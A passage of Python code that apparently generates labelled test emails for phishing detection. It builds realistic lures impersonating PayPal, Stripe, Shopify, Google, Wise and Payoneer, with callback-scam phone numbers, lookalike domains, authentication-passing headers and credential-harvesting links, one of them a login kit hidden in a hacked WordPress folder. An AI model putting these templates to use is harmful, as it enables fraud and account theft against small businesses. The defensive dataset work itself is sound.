       "says an order was placed and to call a support number to dispute it (callback scam through a real platform)")
def p_paypal_request():
    seed = "p20"
    t = utc("2025-04-02 21:14:08")
    sent = ago(t, 2)
    a = paypal_auth(seed)
    url = f"https://www.paypal.com/myaccount/transfer/requests/{tok(seed + 'r', 17, UPPER + DIG)}?cc=US"
    note = ("Your Geek Squad Total Tech membership has been renewed for $649.00. Payment will be processed "
            "automatically. If you did not request this renewal, contact Geek Squad billing immediately at "
            "+1 (855) 417-0326 to cancel. Order ID GS-88134609")
    subject = "Geek Squad Support requested $649.00 USD"
    plain = f"""Geek Squad Support requested $649.00 USD

Note from Geek Squad Support:
"{note}"

Pay Now: {url}

Requested amount: $649.00 USD
Request ID: {tok(seed + 'rid', 17, UPPER + DIG)}

Don't recognize this request? You can decline it from your PayPal account.

{PP_FOOT}"""
    html = f"""<html><head><meta http-equiv="Content-Type" content="text/html; charset=UTF-8"></head><body style="margin:0;background:#ffffff;">
<table width="600" align="center" cellpadding="0" cellspacing="0" style="font-family:PayPalOpen-Regular,Helvetica Neue,Arial,sans-serif;">
<tr><td style="padding:30px 40px 8px;"><img src="https://www.paypalobjects.com/digitalassets/c/system-triggered-email/n/layout/images/paypal-rebranding/pp-logo-in-circle-2x.png" width="36" alt="PayPal"></td></tr>
<tr><td style="padding:8px 40px;font-size:30px;line-height:38px;color:#001c64;">Geek Squad Support requested $649.00 USD</td></tr>
<tr><td style="padding:14px 40px;font-size:15px;line-height:22px;color:#001435;background:#f1efea;border-radius:12px;"><b>Note from Geek Squad Support:</b><br>&ldquo;{note}&rdquo;</td></tr>
<tr><td style="padding:24px 40px;"><a href="{url}" style="background:#003087;color:#fff;padding:12px 34px;border-radius:24px;text-decoration:none;font-weight:bold;">Pay Now</a></td></tr>
<tr><td style="padding:0 40px 16px;font-size:14px;color:#001435;">Requested amount: $649.00 USD<br>Request ID: {tok(seed + 'rid', 17, UPPER + DIG)}</td></tr>
<tr><td style="padding:0 40px 20px;font-size:13px;color:#545d68;">Don't recognize this request? You can decline it from your PayPal account.</td></tr>
<tr><td style="padding:26px 40px;font-size:11px;color:#6c7378;background:#f5f7fa;">Copyright &copy; 1999-2025 PayPal, Inc. All rights reserved. PayPal is located at 2211 N. First St., San Jose, CA 95131.</td></tr>
</table></body></html>
"""
    own = paypal_own(seed, sent, "\"service@paypal.com\" <service@paypal.com>", "mapleandmoss.studio@gmail.com",
                     subject, "PPX000688")
    return mail("maple", "mapleandmoss.studio@gmail.com", "2025-04-02 21:14:08", a, seed, own,
                alt(plain, html, f"----=_Part_{num(seed + 'p', 6)}_{num(seed + 'p2', 10)}.{epoch(sent)}{num(seed + 'p3', 3)}"))


def stripe_auth(seed: str, rcpt: str) -> Auth:
    local, dom = rcpt.split("@")
    return Auth("167.89.101.212", "o4.email.stripe.com",
                f"bounces+{num(seed + 'sg', 7)}-{tok(seed + 'sgh', 4, HEX)}-{local}={dom}@email.stripe.com", "stripe.com",
                dkim=[("stripe.com", "s1", "pass"), ("sendgrid.info", "smtpapi", "pass")], p="reject")


@entry("b37-phish-stripe-invoice-callback", "phish", "phishing",
       "Genuine Stripe-hosted invoice email (stripe.com passes SPF/DKIM/DMARC) from a fraudulent 'McAfee Renewal "
       "Center' account; the invoice memo tells the recipient to phone a number if they did not authorise the charge")
def p_stripe_invoice():
    seed = "p21"
    t = utc("2025-08-26 15:02:17")
    sent = ago(t, 2)
    rcpt = "billing@northboundsocial.com"
    a = stripe_auth(seed, rcpt)
    acct = "acct_1Pz" + tok(seed + "acct", 13, ALNUM)
    url = f"https://invoice.stripe.com/i/{acct}/live_YWNjdF8x{tok(seed + 'live', 80, ALNUM)}0200{tok(seed + 'l2', 8, ALNUM)}?s=em"
    memo = ("Thank you for renewing McAfee Total Protection (5 devices, 3 years). The amount will be charged to your "
            "payment method on file within 24 hours. If you did not authorize this renewal please call our "
            "Billing Department at +1 (833) 604-1177 to stop the charge.")
    subject = "New invoice from McAfee Renewal Center #MRC-3107"
    plain = f"""McAfee Renewal Center

Invoice from McAfee Renewal Center
$489.99
Due September 2, 2025

Invoice number   MRC-3107
Due date         September 2, 2025
Amount due       $489.99

{memo}

View invoice and payment details:
{url}

McAfee Total Protection - 3 Year Plan   Qty 1   $489.99
Total   $489.99

Questions? Contact McAfee Renewal Center at support@mcafee-renewalcenter.com.

Powered by Stripe
Learn more about Stripe Invoicing: https://stripe.com/invoicing
"""
    html = f"""<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"><meta name="viewport" content="width=device-width"></head>
<body style="background-color:#f6f9fc;margin:0;">
<table width="100%" cellpadding="0" cellspacing="0" style="font-family:-apple-system,'SF Pro Display','Segoe UI','Helvetica Neue',Ubuntu,sans-serif;"><tr><td align="center" style="padding:32px 0;">
<table width="500" cellpadding="0" cellspacing="0" style="background:#ffffff;border-radius:8px;">
<tr><td style="padding:32px 40px 0;font-size:16px;color:#8898aa;">McAfee Renewal Center</td></tr>
<tr><td style="padding:12px 40px 0;font-size:32px;color:#32325d;">$489.99</td></tr>
<tr><td style="padding:4px 40px 20px;font-size:14px;color:#8898aa;">Due September 2, 2025</td></tr>
<tr><td style="padding:0 40px 20px;"><a href="{url}" style="display:block;background:#635bff;color:#ffffff;text-align:center;padding:12px;border-radius:6px;text-decoration:none;font-weight:600;">View invoice and payment details</a></td></tr>
<tr><td style="padding:0 40px;font-size:14px;color:#525f7f;line-height:22px;">
<table width="100%" style="font-size:14px;color:#525f7f;"><tr><td>Invoice number</td><td align="right">MRC-3107</td></tr><tr><td>Due date</td><td align="right">September 2, 2025</td></tr><tr><td>Amount due</td><td align="right">$489.99</td></tr></table>
<p style="border-top:1px solid #e6ebf1;padding-top:16px;">{memo}</p>
<table width="100%" style="font-size:14px;color:#525f7f;border-top:1px solid #e6ebf1;"><tr><td style="padding-top:10px;">McAfee Total Protection - 3 Year Plan<br><span style="color:#8898aa;">Qty 1</span></td><td align="right">$489.99</td></tr><tr><td><b>Total</b></td><td align="right"><b>$489.99</b></td></tr></table>
<p style="font-size:13px;color:#8898aa;">Questions? Contact McAfee Renewal Center at <a href="mailto:support@mcafee-renewalcenter.com" style="color:#635bff;">support@mcafee-renewalcenter.com</a>.</p></td></tr>
<tr><td style="padding:20px 40px 32px;font-size:12px;color:#8898aa;">Powered by <b>stripe</b> | <a href="https://stripe.com/invoicing" style="color:#8898aa;">Learn more about Stripe Invoicing</a></td></tr>
</table></td></tr></table></body></html>
"""
    own = [
        dkim("stripe.com", "s1", seed + "1", sent, "content-type:from:mime-version:subject:reply-to:to:cc:content-type:from"
             ":\n\tmime-version:reply-to:subject:to:cc:feedback-id:x-feedback-id"),
        dkim("sendgrid.info", "smtpapi", seed + "2", sent, "content-type:from:mime-version:subject:reply-to:to:cc:"
             "content-type:from:\n\tmime-version:reply-to:subject:to:cc:feedback-id:x-feedback-id"),
        f"Received: by recvd-{tok(seed + 'rv', 10, LOW)}-{tok(seed + 'rv2', 5, LOW)} with SMTP id recvd-{tok(seed + 'rv3', 22, ALNUM)}\n"
        f"\t{dt(ago(sent, 1))}",
        f"Date: {dt(sent)}",
        f"From: McAfee Renewal Center <invoice+statements+{acct}@stripe.com>",
        "Mime-Version: 1.0",
        f"Message-ID: <{tok(seed + 'mid', 22, ALNUM + '_-')}@geopod-ismtpd-{num(seed + 'gp', 2)}>",
        f"Reply-To: support@mcafee-renewalcenter.com",
        f"Subject: {subject}",
        f"Feedback-ID: {acct}:invoice_email_to_customer:stripe",
        f"X-Stripe-Trace-Id: {tok(seed + 'trace', 32, HEX)}",
        f"X-SG-EID: u001.{tok(seed + 'eid', 90, ALNUM + '/+')}",
        f"To: {rcpt}",
    ]
    return mail("north", rcpt, "2025-08-26 15:02:17", a, seed, own, alt(plain, html, bnd_hex(seed, 64)))


@entry("b37-phish-stripe-dispute-postmark", "phish", "phishing",
       "'Stripe' dispute notice (EUR 289 chargeback, respond by date) from lookalike stripe-disputes-center.com sent "
       "through Postmark; 'Respond to dispute' leads to a fake Stripe dashboard login")
def p_stripe_dispute():
    seed = "p22"
    t = utc("2024-06-17 09:51:30")
    sent = ago(t, 2)
    dom = "stripe-disputes-center.com"
    a = Auth("50.31.156.117", "mta117.mtasv.net", f"pm_bounces@pm-bounces.{dom}", dom,
             dkim=[(dom, "20240611pm", "pass"), ("pm.mtasv.net", "pm20240612", "pass")], dmarc=None)
    url = f"https://dashboard.{dom}/disputes/dp_1P{tok(seed + 'dp', 22, ALNUM)}"
    subject = "A payment for €289.00 has been disputed"
    plain = f"""A payment for €289.00 has been disputed

A customer has disputed a payment of €289.00 to Casa Olivo with their card issuer. The dispute reason
is "fraudulent".

The disputed amount and a €20.00 dispute fee have been deducted from your balance. You have until
24 June 2024 to submit evidence; if you don't respond, the dispute will be automatically lost and
future payouts may be paused.

Respond to dispute: {url}

Dispute ID: dp_1P{tok(seed + 'dp', 22, ALNUM)}
Payment: py_3P{tok(seed + 'py', 22, ALNUM)}

- The Stripe team
Stripe, 354 Oyster Point Blvd, South San Francisco, CA 94080
"""
    html = f"""<!DOCTYPE html><html><head><meta charset="utf-8"><title>Dispute</title></head><body style="background:#f6f9fc;margin:0;">
<table width="100%" cellpadding="0" cellspacing="0" style="font-family:-apple-system,'SF Pro Text','Segoe UI',Helvetica,Arial,sans-serif;"><tr><td align="center" style="padding:30px 0;">
<table width="540" cellpadding="0" cellspacing="0" style="background:#fff;border-radius:6px;">
<tr><td style="padding:28px 40px 0;font-size:26px;font-weight:bold;color:#635bff;">stripe</td></tr>
<tr><td style="padding:22px 40px 0;font-size:22px;color:#32325d;">A payment for &euro;289.00 has been disputed</td></tr>
<tr><td style="padding:14px 40px;font-size:15px;line-height:24px;color:#525f7f;">
<p>A customer has disputed a payment of <b>&euro;289.00</b> to Casa Olivo with their card issuer. The dispute reason is &quot;fraudulent&quot;.</p>
<p>The disputed amount and a &euro;20.00 dispute fee have been deducted from your balance. You have until <b>24 June 2024</b> to submit evidence; if you don't respond, the dispute will be automatically lost and future payouts may be paused.</p>
<p><a href="{url}" style="background:#635bff;color:#fff;padding:10px 20px;border-radius:4px;text-decoration:none;font-weight:600;">Respond to dispute</a></p>
<p style="font-size:13px;color:#8898aa;">Dispute ID: dp_1P{tok(seed + 'dp', 22, ALNUM)}<br>Payment: py_3P{tok(seed + 'py', 22, ALNUM)}</p>
<p>&mdash; The Stripe team</p></td></tr>
<tr><td style="padding:18px 40px;font-size:12px;color:#8898aa;border-top:1px solid #e6ebf1;">Stripe, 354 Oyster Point Blvd, South San Francisco, CA 94080</td></tr>
</table></td></tr></table></body></html>
"""
    own = [
        dkim("pm.mtasv.net", "pm20240612", seed + "2", sent, "Date:From:To:Message-Id:Subject:MIME-Version:Content-Type:"
             "Feedback-ID"),
        dkim(dom, "20240611pm", seed + "1", sent, "Date:From:To:Message-Id:Subject:MIME-Version:Content-Type"),
        f"Received: by mta117.mtasv.net id {tok(seed + 'r', 14, LOW)} for <hola@casaolivo.es>; {dt(ago(sent, 1))}",
        f"X-PM-IP: 50.31.156.117",
        f"Date: {dt(sent)}",
        f"From: Stripe <notifications@{dom}>",
        "To: hola@casaolivo.es",
        f"Message-Id: <{tok(seed + 'u1', 8, HEX)}-{tok(seed + 'u2', 4, HEX)}-{tok(seed + 'u3', 4, HEX)}-{tok(seed + 'u4', 4, HEX)}-"
        f"{tok(seed + 'u5', 12, HEX)}@mtasv.net>",
        f"Subject: {enc(subject)}",
        "MIME-Version: 1.0",
        f"X-PM-Message-Id: {tok(seed + 'u1', 8, HEX)}-{tok(seed + 'u2', 4, HEX)}-{tok(seed + 'u3', 4, HEX)}-{tok(seed + 'u4', 4, HEX)}-"
        f"{tok(seed + 'u5', 12, HEX)}",
        "X-PM-RCPT: |bTB8" + tok(seed + "rc", 40, ALNUM) + "|",
        "X-PM-Message-Stream: outbound",
        f"Feedback-ID: s{num(seed + 'fid', 7)}-_:s{num(seed + 'fid', 7)}:a{num(seed + 'fa', 6)}:postmark",
        "X-Complaints-To: abuse@postmarkapp.com",
    ]
    return mail("olivo", "hola@casaolivo.es", "2024-06-17 09:51:30", a, seed, own,
                alt(plain, html, f"mk3-{tok(seed + 'bd', 32, HEX)}"))


@entry("b37-phish-shopify-chargeback-pdf", "phish", "phishing",
       "'Shopify Support' chargeback notice from lookalike shopify-chargebacks.help with a PDF 'dispute summary' whose "
       "button links to a fake Shopify admin login on the same lookalike")
def p_shopify_chargeback_pdf():
    seed = "p23"
    t = utc("2025-10-14 18:37:12")
    sent = ago(t, 3)
    dom = "shopify-chargebacks.help"
    a = Auth("185.244.182.66", f"mx1.{dom}", f"disputes@{dom}", dom, dkim=[(dom, "dkim", "pass")], dmarc="pass", p="none")
    link = f"https://admin.{dom}/store/lunaandfern/payments/disputes/LF1043?token={tok(seed + 'tk', 18, ALNUM)}"
    pdfdata = pdf_doc([
        "Shopify Payments - Chargeback Notification",
        "",
        "Store: Luna & Fern Candle Co.",
        "Order: #LF1043    Amount: $312.40 USD",
        "Reason code: 10.4 - Other Fraud: Card Absent Environment",
        "Evidence due by: October 20, 2025",
        "",
        "The cardholder has disputed this charge with their bank. The disputed amount",
        "and a $15.00 chargeback fee have been withdrawn from your payouts.",
        "",
        "To submit a response, sign in to your Shopify admin using the button below.",
        "If no response is submitted before the deadline, the dispute is closed in",
        "favour of the cardholder.",
    ], "Chargeback Notification LF1043", producer="Skia/PDF m129", link=(link, (56, 520, 300, 556)),
        button="RESPOND TO CHARGEBACK")
    subject = "Chargeback received for order #LF1043 - response required"
    plain = """Hello Luna & Fern Candle Co.,

A customer has filed a chargeback for order #LF1043 ($312.40 USD). The disputed amount and a $15.00
chargeback fee have been withdrawn from your upcoming payout.

Please review the attached dispute summary and submit your evidence before October 20, 2025.

Shopify Support
"""
    html = """<div style="font-family:-apple-system,Segoe UI,Helvetica,Arial,sans-serif;font-size:14px;color:#202223;line-height:21px;">
<p>Hello Luna &amp; Fern Candle Co.,</p>
<p>A customer has filed a chargeback for order <b>#LF1043</b> ($312.40 USD). The disputed amount and a $15.00 chargeback fee have been withdrawn from your upcoming payout.</p>
<p>Please review the attached dispute summary and submit your evidence before <b>October 20, 2025</b>.</p>
<p>Shopify Support</p></div>
"""
    body = mixed(f"=_{tok(seed + 'm', 32, HEX)}", alt(plain, html, f"=_{tok(seed + 'a', 32, HEX)}"),
                 attachment("application/pdf", "Dispute_Summary_LF1043.pdf", pdfdata))
    own = [
        dkim(dom, "dkim", seed, sent, "Message-ID:Date:MIME-Version:Subject:To:From:Content-Type"),
        f"Received: from [127.0.0.1] (localhost [127.0.0.1])\n\t(Authenticated sender: disputes@{dom})\n\tby mx1.{dom} "
        f"(Postfix) with ESMTPSA id {tok(seed + 'q', 10, UHEX)}\n\tfor <maya@lunaandfern.com>; {dt(ago(sent, 1))}",
        f"Message-ID: <{tok(seed + 'mid', 32, HEX)}@{dom}>",
        f"Date: {dt(sent)}",
        "MIME-Version: 1.0",
        f"Subject: {subject}",
        "To: maya@lunaandfern.com",
        f"From: Shopify Support <disputes@{dom}>",
    ]
    return mail("luna", "maya@lunaandfern.com", "2025-10-14 18:37:12", a, seed, own, body)


@entry("b37-phish-googleads-billing-sitesgoogle", "phish", "phishing",
       "'Google Ads' payment-declined / campaigns-paused notice sent from a compromised cPanel mailbox of an unrelated "
       "lodge (passes its own SPF/DKIM); link to a sites.google.com page that forwards to a Google login kit")
def p_googleads_billing():
    seed = "p24"
    t = utc("2024-04-16 20:06:55")
    sent = ago(t, 4)
    dom = "bigbearlodgeinc.com"
    a = Auth("162.241.218.140", "server.bigbearlodgeinc.com", f"info@{dom}", dom, dkim=[(dom, "default", "pass")],
             dmarc=None, tls="TLS1_2")
    url = "https://sites.google.com/view/googleads-billing-verification/home"
    subject = "Your Google Ads campaigns have stopped running - payment declined"
    plain = f"""Google Ads

Your ads have stopped running

Customer ID: 481-{num(seed + 'c1', 3)}-{num(seed + 'c2', 4)}

We weren't able to process your most recent automatic payment of $1,284.16 USD. Your ads have stopped
running because your account balance is past due.

To resume your campaigns, please update your payment information and verify your billing profile:
{url}

If your payment information isn't updated within 72 hours, your Google Ads account may be suspended.

The Google Ads Team
Google LLC 1600 Amphitheatre Parkway, Mountain View, CA 94043
"""
    html = f"""<html><body style="margin:0;background:#f1f3f4;">
<table width="100%" cellpadding="0" cellspacing="0" style="font-family:Google Sans,Roboto,Arial,sans-serif;"><tr><td align="center" style="padding:30px 0;">
<table width="560" cellpadding="0" cellspacing="0" style="background:#fff;border-radius:8px;border:1px solid #dadce0;">
<tr><td style="padding:24px 32px;font-size:20px;color:#5f6368;"><span style="color:#4285f4;">G</span><span style="color:#ea4335;">o</span><span style="color:#fbbc05;">o</span><span style="color:#4285f4;">g</span><span style="color:#34a853;">l</span><span style="color:#ea4335;">e</span> Ads</td></tr>
<tr><td style="padding:0 32px;font-size:24px;color:#202124;">Your ads have stopped running</td></tr>
<tr><td style="padding:16px 32px;font-size:14px;line-height:22px;color:#3c4043;">
<p style="color:#5f6368;">Customer ID: 481-{num(seed + 'c1', 3)}-{num(seed + 'c2', 4)}</p>
<p>We weren't able to process your most recent automatic payment of <b>$1,284.16 USD</b>. Your ads have stopped running because your account balance is past due.</p>
<p>To resume your campaigns, please update your payment information and verify your billing profile.</p>
<p><a href="{url}" style="background:#1a73e8;color:#fff;padding:10px 24px;border-radius:4px;text-decoration:none;font-weight:500;">Fix payment</a></p>
<p>If your payment information isn't updated within 72 hours, your Google Ads account may be suspended.</p>
<p>The Google Ads Team</p></td></tr>
<tr><td style="padding:16px 32px;font-size:11px;color:#80868b;border-top:1px solid #dadce0;">Google LLC 1600 Amphitheatre Parkway, Mountain View, CA 94043</td></tr>
</table></td></tr></table></body></html>
"""
    own = [
        dkim(dom, "default", seed, sent, "Content-Type:MIME-Version:Message-ID:Date:Subject:To:From:Sender:Reply-To:"
             "Cc:\n\tContent-Transfer-Encoding:Content-ID:Content-Description:Resent-Date:Resent-From:\n\tResent-Sender:"
             "Resent-To:Resent-Cc:Resent-Message-ID:In-Reply-To:References:\n\tList-Id:List-Help:List-Unsubscribe:"
             "List-Subscribe:List-Post:List-Owner:List-Archive", c="relaxed/relaxed", q=True),
        f"Received: from [176.97.210.{num(seed + 'ip', 2)}] (port={num(seed + 'pt', 5)} helo=[127.0.0.1])\n\tby server.{dom} "
        f"with esmtpsa  (TLS1.2) tls TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384\n\t(Exim 4.96.2)\n\t(envelope-from <info@{dom}>)\n"
        f"\tid 1rw{tok(seed + 'ex', 3, ALNUM)}-{tok(seed + 'ex2', 7, ALNUM)}-{tok(seed + 'ex3', 2, ALNUM)}\n\tfor "
        f"ads@northboundsocial.com;\n\t{dt(ago(sent, 1), 'pacific')}",
        "From: Google Ads <info@bigbearlodgeinc.com>",
        "To: ads@northboundsocial.com",
        f"Subject: {subject}",
        f"Date: {dt(sent, 'pacific')}",
        f"Message-ID: <{tok(seed + 'mid', 20, ALNUM)}@{dom}>",
        "MIME-Version: 1.0",
        "X-AntiAbuse: This header was added to track abuse, please include it with any abuse report",
        f"X-AntiAbuse: Primary Hostname - server.{dom}",
        "X-AntiAbuse: Original Domain - northboundsocial.com",
        "X-AntiAbuse: Originator/Caller UID/GID - [47 12] / [47 12]",
        f"X-AntiAbuse: Sender Address Domain - {dom}",
        f"X-Get-Message-Sender-Via: server.{dom}: authenticated_id: info@{dom}",
        f"X-Authenticated-Sender: server.{dom}: info@{dom}",
    ]
    return mail("north", "ads@northboundsocial.com", "2024-04-16 20:06:55", a, seed, own,
                alt(plain, html, f"----=_NextPart_{tok(seed + 'np', 3, UHEX)}_{tok(seed + 'np2', 4, UHEX)}_{tok(seed + 'np3', 8, UHEX)}.{tok(seed + 'np4', 8, UHEX)}"))


@entry("b37-phish-merchant-center-suspension", "phish", "phishing",
       "'Google Merchant Center' misrepresentation-suspension notice from lookalike merchantcenter-policyreview.com; "
       "'Request review' goes to a Google account sign-in clone behind a Cloudflare Turnstile check")
def p_merchant_center():
    seed = "p25"
    t = utc("2025-12-02 16:44:09")
    sent = ago(t, 2)
    dom = "merchantcenter-policyreview.com"
    a = Auth("194.58.66.140", f"mail.{dom}", f"merchant-noreply@{dom}", dom, dkim=[(dom, "google", "pass")],
             dmarc="pass", p="none")
    mcid = num(seed + "mc", 9)
    url = f"https://{dom}/mc/products/diagnostics/review?a={mcid}&hl=en&verify={tok(seed + 'v', 24, ALNUM)}"
    subject = f"[Action required] Your Merchant Center account {mcid} has been suspended"
    plain = f"""Google Merchant Center

Your account has been suspended for misrepresentation

Merchant Center ID: {mcid}
Store: Luna & Fern Candle Co. (lunaandfern.com)

We found that your online store doesn't comply with our Misrepresentation policy. As a result, your
products have been disapproved and won't show in Google Shopping ads or free listings.

If you believe your store complies with the policy, request a review within 7 days. Accounts without
a review request may be permanently suspended and the linked Google Ads account may be restricted.

Request review: {url}

Sincerely,
The Google Merchant Center team

(c) 2025 Google LLC 1600 Amphitheatre Parkway, Mountain View, CA 94043
"""
    html = f"""<html><body style="margin:0;background:#ffffff;font-family:Roboto,Arial,sans-serif;">
<table width="600" align="center" cellpadding="0" cellspacing="0"><tr><td style="padding:24px 24px 8px;font-size:18px;color:#5f6368;">Google Merchant Center</td></tr>
<tr><td style="padding:8px 24px;font-size:22px;color:#202124;">Your account has been suspended for misrepresentation</td></tr>
<tr><td style="padding:8px 24px;font-size:14px;line-height:22px;color:#3c4043;">
<p style="background:#f8f9fa;padding:10px 14px;">Merchant Center ID: {mcid}<br>Store: Luna &amp; Fern Candle Co. (lunaandfern.com)</p>
<p>We found that your online store doesn't comply with our Misrepresentation policy. As a result, your products have been disapproved and won't show in Google Shopping ads or free listings.</p>
<p>If you believe your store complies with the policy, request a review within <b>7 days</b>. Accounts without a review request may be permanently suspended and the linked Google Ads account may be restricted.</p>
<p><a href="{url}" style="background:#1a73e8;color:#ffffff;padding:10px 22px;border-radius:4px;text-decoration:none;">Request review</a></p>
<p>Sincerely,<br>The Google Merchant Center team</p></td></tr>
<tr><td style="padding:20px 24px;font-size:11px;color:#70757a;">&copy; 2025 Google LLC 1600 Amphitheatre Parkway, Mountain View, CA 94043</td></tr></table></body></html>
"""
    own = [
        dkim(dom, "google", seed, sent, "From:To:Subject:Date:Message-ID:MIME-Version:Content-Type"),
        f"Received: from localhost (localhost [127.0.0.1])\n\tby mail.{dom} (Postfix) with ESMTPSA id {tok(seed + 'q', 10, UHEX)}"
        f"\n\tfor <maya@lunaandfern.com>; {dt(ago(sent, 1))}",
        f"From: Google Merchant Center <merchant-noreply@{dom}>",
        "To: maya@lunaandfern.com",
        f"Subject: {subject}",
        f"Date: {dt(sent)}",
        f"Message-ID: <0000000000{tok(seed + 'mid', 16, HEX)}@{dom}>",
        "MIME-Version: 1.0",
    ]
    return mail("luna", "maya@lunaandfern.com", "2025-12-02 16:44:09", a, seed, own,
                alt(plain, html, "000000000000" + tok(seed + "b", 12, HEX)))


@entry("b37-phish-wise-business-hold", "phish", "phishing",
       "'Wise Business' notice that incoming transfers are on hold pending business verification, from lookalike "
       "wise-business-review.com on a VPS; link to a fake Wise login with OTP step")
def p_wise():
    seed = "p30"
    t = utc("2024-12-17 08:22:40")
    sent = ago(t, 2)
    dom = "wise-business-review.com"
    a = Auth("89.23.107.55", "unknown", f"noreply@{dom}", dom, helo=f"mail.{dom}", dkim=[(dom, "s1", "pass")],
             dmarc=None)
    url = f"https://{dom}/login?redirect=%2Fbusiness%2Fverification%2F{tok(seed + 'r', 12, LOW)}"
    subject = "Your incoming transfers are on hold"
    plain = f"""Wise

Hi Holzwerk Lindner,

We've put 2 incoming transfers on hold (total 3,940.00 EUR) while we review your business account.

Under our regulatory obligations we need to confirm the details of your business and the people who
own or control it. Please log in and complete the review within 5 days, otherwise the transfers will
be returned to the sender.

Complete the review: {url}

Thanks,
The Wise Team

Wise Europe SA, Rue du Trône 100, 3rd floor, Brussels, 1050, Belgium
"""
    html = f"""<html><head><meta charset="utf-8"></head><body style="margin:0;background:#f2f5f7;">
<table width="100%" cellpadding="0" cellspacing="0" style="font-family:Inter,Helvetica,Arial,sans-serif;"><tr><td align="center" style="padding:28px 0;">
<table width="560" cellpadding="0" cellspacing="0" style="background:#ffffff;border-radius:16px;">
<tr><td style="padding:28px 36px 0;font-size:26px;font-weight:800;color:#163300;">&#127988; WISE</td></tr>
<tr><td style="padding:18px 36px;font-size:16px;line-height:24px;color:#0e0f0c;">
<p>Hi Holzwerk Lindner,</p>
<p>We've put 2 incoming transfers on hold (total <b>3,940.00 EUR</b>) while we review your business account.</p>
<p>Under our regulatory obligations we need to confirm the details of your business and the people who own or control it. Please log in and complete the review within 5 days, otherwise the transfers will be returned to the sender.</p>
<p style="padding:6px 0;"><a href="{url}" style="background:#9fe870;color:#163300;padding:12px 26px;border-radius:24px;text-decoration:none;font-weight:600;">Complete the review</a></p>
<p>Thanks,<br>The Wise Team</p></td></tr>
<tr><td style="padding:18px 36px;font-size:11px;color:#6a6c6a;">Wise Europe SA, Rue du Tr&ocirc;ne 100, 3rd floor, Brussels, 1050, Belgium</td></tr></table></td></tr></table></body></html>
"""
    own = [
        dkim(dom, "s1", seed, sent, "Date:From:To:Subject:Message-ID:MIME-Version:Content-Type"),
        f"Date: {dt(sent, 'utc')}",
        f"From: Wise <noreply@{dom}>",
        "To: info@holzwerk-lindner.de",
        f"Subject: {subject}",
        f"Message-ID: <{tok(seed + 'mid', 10, LOW)}.{num(seed + 'n', 12)}@{dom}>",
        "MIME-Version: 1.0",
        "X-Mailer: Mozilla/5.0 (Windows NT 10.0; Win64; x64)",
    ]
    return mail("holz", "info@holzwerk-lindner.de", "2024-12-17 08:22:40", a, seed, own, alt(plain, html, bnd_php(seed)))


@entry("b37-phish-payoneer-pago-es", "phish", "phishing",
       "Spanish 'Payoneer' notice of a USD 2,316.50 Amazon payment 'pending acceptance', from lookalike "
       "payoneer-pagos.com; 'Aceptar pago' leads to a Payoneer login/2FA clone")
def p_payoneer():
    seed = "p31"
    t = utc("2025-07-07 15:19:02")
    sent = ago(t, 3)
    dom = "payoneer-pagos.com"
    a = Auth("103.155.93.20", f"mail.{dom}", f"notificaciones@{dom}", dom, dkim=[(dom, "x", "pass")], dmarc=None)
    url = f"https://login.{dom}/es/accept-payment?pid={num(seed + 'p', 10)}&h={tok(seed + 'h', 20, ALNUM)}"
    subject = "Recibiste un pago de Amazon Payments - Acción requerida"
    plain = f"""Payoneer

Hola Tienda Quetzal,

Recibiste un pago de USD 2,316.50 de Amazon Payments, Inc.

Para que los fondos se acrediten en tu saldo de Payoneer debes aceptar el pago en un plazo de 3 días.
Si no lo aceptas, el pago será devuelto al remitente.

Aceptar pago: {url}

Número de referencia: {num(seed + 'ref', 10)}

Saludos,
El equipo de Payoneer
"""
    html = f"""<html><body style="margin:0;background:#f4f6f9;font-family:Arial,Helvetica,sans-serif;">
<table width="600" align="center" cellpadding="0" cellspacing="0" style="background:#ffffff;margin-top:20px;">
<tr><td style="padding:22px 30px;border-bottom:3px solid #ff4800;font-size:24px;font-weight:bold;color:#222;">Payoneer</td></tr>
<tr><td style="padding:24px 30px;font-size:15px;line-height:23px;color:#333;">
<p>Hola Tienda Quetzal,</p>
<p>Recibiste un pago de <b>USD 2,316.50</b> de Amazon Payments, Inc.</p>
<p>Para que los fondos se acrediten en tu saldo de Payoneer debes aceptar el pago en un plazo de <b>3 días</b>. Si no lo aceptas, el pago será devuelto al remitente.</p>
<p><a href="{url}" style="background:#ff4800;color:#fff;padding:12px 28px;border-radius:4px;text-decoration:none;font-weight:bold;">Aceptar pago</a></p>
<p style="color:#777;font-size:13px;">Número de referencia: {num(seed + 'ref', 10)}</p>
<p>Saludos,<br>El equipo de Payoneer</p></td></tr></table></body></html>
"""
    own = [
        dkim(dom, "x", seed, sent, "Content-Type:MIME-Version:Message-ID:Date:Subject:From:To"),
        f"Received: from [103.155.93.20] (helo=mail.{dom})\n\tby mail.{dom} with esmtpa (Exim 4.97)\n\t(envelope-from "
        f"<notificaciones@{dom}>)\n\tid 1uY{tok(seed + 'e', 3, ALNUM)}-{tok(seed + 'e2', 6, ALNUM)}-{tok(seed + 'e3', 2, ALNUM)}"
        f"\n\tfor ventas@tiendaquetzal.mx; {dt(ago(sent, 1))}",
        f"To: ventas@tiendaquetzal.mx",
        f"Subject: {enc(subject)}",
        f"From: Payoneer <notificaciones@{dom}>",
        f"Date: {dt(sent)}",
        f"Message-ID: <{tok(seed + 'mid', 32, HEX)}@{dom}>",
        "MIME-Version: 1.0",
    ]
    return mail("quetzal", "ventas@tiendaquetzal.mx", "2025-07-07 15:19:02", a, seed, own, alt(plain, html, bnd_php(seed)))


@entry("b37-phish-paypal-limited-hacked-wordpress", "phish", "phishing",
       "'PayPal Business' account-limitation notice sent by PHPMailer from a hacked florist's WordPress site (passes "
       "that domain's SPF/DKIM); link to a PayPal login kit uploaded under the site's wp-content folder")
def p_paypal_limited():
    seed = "p32"
    t = utc("2025-03-25 04:12:33")
    sent = ago(t, 2)
    dom = "bloomhousefloral.com"
    a = Auth("192.185.48.121", "gator4121.hostgator.com", f"wordpress@{dom}", dom, dkim=[(dom, "default", "pass")],
             dmarc=None, tls="TLS1_2")
    url = f"https://{dom}/wp-content/uploads/2025/03/.ppl/myaccount/limitation/?cmd=_resolve&case=PP-L-{num(seed + 'c', 9)}"
    subject = "Your PayPal Business account has been limited"
    plain = f"""PayPal

Hello,

We noticed unusual activity on your PayPal Business account and have temporarily limited what you can
do with it. You won't be able to send or withdraw money until you confirm your information.

Case ID: PP-L-{num(seed + 'c', 9)}

Resolve now: {url}

If we don't hear from you within 72 hours your account will remain limited.

PayPal
"""
